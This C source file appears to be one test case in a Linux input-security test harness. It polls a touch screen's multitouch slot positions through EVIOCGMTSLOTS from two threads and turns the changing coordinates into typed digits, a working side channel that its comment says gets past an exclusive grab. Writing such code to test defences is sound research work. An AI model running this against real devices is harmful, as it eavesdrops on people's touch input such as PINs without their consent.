// SPDX-License-Identifier: Apache-2.0
/*
 * Asks a touch screen where all fingers are (EVIOCGMTSLOTS) as fast as it can: a grab
 * keeps events from others, not this state.
 *
 * attack: evdev_poll_mtslots
 * class: input
 * when: before
 * judge: keys
 * devices: qemu-xhci touch-screen
 * defence: module
 * why: the places are read with no lock whoever has the grab, so in a session the listed
 *	device has no axes at all
 */
#include <linux/input.h>
#include <pthread.h>
#include <sys/ioctl.h>

#include "digits.h"
#include "evdev.h"
#include "report.h"
#include "touch.h"

#define THREADS	2
#define SLOTS	10

struct poller {
	pthread_t thread;
	int fd, range;
	unsigned long polls;
	struct digits digits;
};

struct request {
	__u32 axis;
	__s32 values[SLOTS];
};

static void *poll_places(void *arg)
{
	struct request now = { .axis = ABS_MT_POSITION_X };
	struct poller *p = arg;
	int last[SLOTS] = { 0 }, i;

	for (; !attack_stopping(); p->polls++) {
		if (ioctl(p->fd, EVIOCGMTSLOTS(sizeof(now)), &now) < 0)
			continue;
		for (i = 0; i < SLOTS; i++) {
			if (now.values[i] != last[i])
				digits_add(&p->digits, touch_digit(now.values[i], p->range));
			last[i] = now.values[i];
		}
	}
	return NULL;
}

int main(void)
{
	static struct poller pollers[THREADS];
	int fds[EVDEV_MAX], i;

	attack_init();
	if (!touch_open(ABS_MT_POSITION_X, fds))
		attack_failed("no touch screen can be opened");
	for (i = 0; i < THREADS; i++) {
		pollers[i].fd = fds[0];
		pollers[i].range = touch_range(fds[0], ABS_MT_POSITION_X);
		if (pthread_create(&pollers[i].thread, NULL, poll_places, &pollers[i]))
			attack_failed("no thread can be started");
	}
	attack_ready();
	for (i = 0; i < THREADS; i++) {
		pthread_join(pollers[i].thread, NULL);
		attack_note("thread %d asked %lu times", i, pollers[i].polls);
		attack_digits(pollers[i].digits.text);
	}
	attack_failed("these are all the digits it saw");
}
